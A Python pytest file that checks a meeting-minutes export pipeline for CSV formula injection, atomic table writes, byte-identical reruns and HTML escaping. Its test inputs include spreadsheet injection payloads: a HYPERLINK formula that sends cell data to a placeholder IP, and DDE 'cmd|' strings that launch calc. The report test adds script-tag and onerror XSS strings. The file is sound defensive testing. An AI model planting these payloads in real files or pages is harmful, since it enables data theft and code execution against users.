"""Safe, atomic, repeatable outputs (issue 6): formula cells neutralised (OWASP CSV injection,
CWE-1236) with numeric columns kept numeric; tables replaced atomically; reruns byte-identical;
minutes text escaped in the HTML report."""
from __future__ import annotations

import csv
import json
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
from bs4 import BeautifulSoup

from pipeline.export import FORMULA_START, neutralise, write_table, write_table_chunks, write_tables
from pipeline.records import (TABLES, ActionRow, ActionUpdateRow, AttendeeRow, DecisionRow, ErrorRow, MeetingRow,
                              PageRecords, SentenceRow, columns)
from pipeline.store import OutputStore

HOSTILE = [
    '=HYPERLINK("http://198.51.100.7/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    'He said "no", then left;=1+1',
    "line one\nline two, with a comma",
    "a;=cmd|' /C calc'!A0;b",
    "",
]


def sentence(text: str, i: int = 0, conf: float = 0.5) -> SentenceRow:
    return SentenceRow(f"page-{i}.txt", i, 10 * i, 10 * i + len(text), "1. Item", "note", conf, text)


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("plain", "plain"), ("a=1", "a=1"), ("", ""), ("'=1", "'=1"), (-3, -3), (2.5, 2.5), (None, None), (True, True),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_formula_cells_are_text_and_numbers_stay_numbers(tmp_path):
    rows = [sentence(t, i, conf=-0.25 if i % 2 else 0.75) for i, t in enumerate(HOSTILE)]
    path = write_table(tmp_path, "sentences", rows)
    df = pd.read_csv(path, keep_default_na=False)
    assert df["sentence_index"].dtype.kind == "i" and df["char_start"].dtype.kind == "i"
    assert df["confidence"].dtype.kind == "f" and list(df["confidence"])[:2] == [0.75, -0.25]
    assert list(df["text"]) == [neutralise(t) for t in HOSTILE]
    assert not any(str(v).startswith(FORMULA_START) for col in df.columns if df[col].dtype == object for v in df[col])


def test_text_cells_are_quoted_so_no_separator_starts_a_formula_cell(tmp_path):
    """OWASP: wrap each text cell in double quotes (quotes doubled), so a ',' or a quote inside the
    text cannot begin a new cell with a formula in it. (A spreadsheet that splits a comma file on
    ';' ignores its quoting; text is not rewritten for that: offsets must keep pointing at it.)"""
    path = write_table(tmp_path, "sentences", [sentence(t, i) for i, t in enumerate(HOSTILE)])
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert all(len(r) == len(columns(SentenceRow)) for r in rows)
    assert not [c for r in rows for c in r if c.startswith(FORMULA_START)]
    body = path.read_text(encoding="utf-8").split("\n", 1)[1]
    assert body.startswith('"page-0.txt",0,0,')  # text quoted, numbers bare
    assert '"a;=cmd|\' /C calc\'!A0;b"' in body


def test_quotes_commas_and_newlines_round_trip(tmp_path):
    texts = ['say "hi", then go', "two\nlines", "cr\r\nlf", ",", '"', "  padded  ", "ünïcödé – £ €", "NA",
             "null"]
    path = write_table(tmp_path, "sentences", [sentence(t, i) for i, t in enumerate(texts)])
    df = pd.read_csv(path, dtype={"text": str}, keep_default_na=False)
    assert list(df["text"]) == texts


def test_jsonl_round_trips_and_neutralises_alike(tmp_path):
    rows = [sentence(t, i) for i, t in enumerate(HOSTILE)]
    path = write_table(tmp_path, "sentences", rows, fmt="jsonl")
    back = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert [r["text"] for r in back] == [neutralise(t) for t in HOSTILE]
    assert all(isinstance(r["sentence_index"], int) for r in back)


class Boom(RuntimeError):
    pass


def _old_table(tmp_path: Path) -> bytes:
    write_table(tmp_path, "sentences", [sentence("The old table.", 0)])
    return (tmp_path / "sentences.csv").read_bytes()


def _leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp") or p.name.startswith(".sentences"))


@pytest.mark.parametrize("error", [Boom, KeyboardInterrupt])
def test_an_interrupted_write_leaves_the_old_table_and_no_temp_file(tmp_path, monkeypatch, error):
    old = _old_table(tmp_path)
    real = pd.DataFrame.to_csv

    def half_then_fail(self, f, *args, **kw):
        real(self.head(1), f, *args, **kw)  # some rows are on disk when it fails
        f.flush()
        raise error("disk on fire")

    monkeypatch.setattr(pd.DataFrame, "to_csv", half_then_fail)
    with pytest.raises(error):
        write_table(tmp_path, "sentences", [sentence(f"New row {i}.", i) for i in range(50)])
    assert (tmp_path / "sentences.csv").read_bytes() == old
    assert _leftovers(tmp_path) == []


def test_a_failing_chunk_stream_leaves_the_old_table(tmp_path):
    old = _old_table(tmp_path)

    def chunks():
        yield [sentence("First chunk.", 0)]
        raise Boom("the parts vanished")

    with pytest.raises(Boom):
        write_table_chunks(tmp_path, "sentences", chunks())
    assert (tmp_path / "sentences.csv").read_bytes() == old
    assert _leftovers(tmp_path) == []


def _records(i: int, text: str) -> PageRecords:
    src = f"p{i}.txt"
    return PageRecords([MeetingRow(src, "Board", "2024-06-04", "HQ", "", 1, 0, 0)],
                       [AttendeeRow(src, "2024-06-04", "ACC", "Ann Lee", "Ops", "", True)], [], [], [],
                       [SentenceRow(src, 0, 0, len(text), "", "note", 0.9, text)])


def test_an_interrupted_rebuild_keeps_every_old_table(tmp_path, monkeypatch):
    store = OutputStore(tmp_path)
    store.add_part([("p0.txt", "h0", _records(0, "Old text."))])
    store.finish([])
    before = {n: (tmp_path / f"{n}.csv").read_bytes() for n in TABLES}

    store = OutputStore(tmp_path)
    store.add_part([("p1.txt", "h1", _records(1, "New text."))])
    import pipeline.export

    calls = {"n": 0}
    real = pipeline.export.write_table_chunks

    def fail_on_third(*args, **kw):
        calls["n"] += 1
        if calls["n"] == 3:
            raise Boom("killed mid-rebuild")
        return real(*args, **kw)

    monkeypatch.setattr(pipeline.export, "write_table_chunks", fail_on_third)
    with pytest.raises(Boom):
        store.finish([])
    for n in TABLES:  # each table is the old one or the new one, whole; never half
        df = pd.read_csv(tmp_path / f"{n}.csv", keep_default_na=False)
        assert list(df.columns) == columns(TABLES[n])
    assert (tmp_path / "decisions.csv").read_bytes() == before["decisions"]
    assert not [p for p in tmp_path.rglob("*") if p.name.endswith(".tmp") or p.name.startswith(".part.")]


def test_tables_are_ordinary_files_and_rewrites_are_byte_identical(tmp_path):
    tables = {"sentences": [sentence(t, i) for i, t in enumerate(HOSTILE)],
              "errors": [ErrorRow("=bad.txt", "read", "empty file")]}
    first = {p.name: p.read_bytes() for p in write_tables(tmp_path / "a", tables)}
    second = {p.name: p.read_bytes() for p in write_tables(tmp_path / "b", tables)}
    assert first == second and set(first) == {f"{n}.csv" for n in TABLES}
    assert (tmp_path / "a" / "sentences.csv").stat().st_mode & 0o044  # not mkstemp's 0600


# ---------------------------------------------------------------------------------------------
# The HTML report escapes what came from the input

SCRIPT = "<script>alert('pwned')</script>"


def test_report_escapes_minutes_text_and_names(tmp_path):
    from pipeline.report import render_report, write_report

    src = "board.txt"
    common = dict(source=src, meeting_date="2024-06-04", item=f"1. {SCRIPT}", owner=f"ACC {SCRIPT}",
                  owner_rank="ACC", owner_name=f"Ann {SCRIPT}", owner_role="Ops", due_date="2024-09-30",
                  due_text="by 30 September 2024", recurrence="", confidence=0.9)
    tables = {
        "meetings": [MeetingRow(src, f"Chief Officer Board {SCRIPT}", "2024-06-04", f"HQ <img src=x onerror=alert(1)>",
                                "", 1, 1, 1)],
        "attendees": [AttendeeRow(src, "2024-06-04", "ACC", f"Ann {SCRIPT}", "Ops", "", True)],
        "decisions": [DecisionRow(sentence_index=0, char_start=0, char_end=40,
                                  text=f"The board agreed {SCRIPT} the plan.", **common)],
        "actions": [ActionRow(sentence_index=1, char_start=41, char_end=90, action_id=f"1/24{SCRIPT}",
                              text=f"ACC Ann {SCRIPT} to report by 30 September 2024.", **common)],
        "action_updates": [ActionUpdateRow(src, "2024-06-04", f"1/24{SCRIPT}", "open", "", f"Update {SCRIPT}")],
        "sentences": [],
    }
    write_tables(tmp_path, tables)
    html = render_report(tmp_path, date(2024, 7, 1))
    soup = BeautifulSoup(html, "html.parser")
    assert soup.find("script") is None
    assert not soup.find_all(attrs={"onerror": True})
    assert "<script>" not in html and "&lt;script&gt;" in html
    text = soup.get_text()
    assert f"The board agreed {SCRIPT} the plan." in text
    assert SCRIPT in text.replace("\n", "")
    assert write_report(tmp_path, date(2024, 7, 1)).read_text(encoding="utf-8") == html
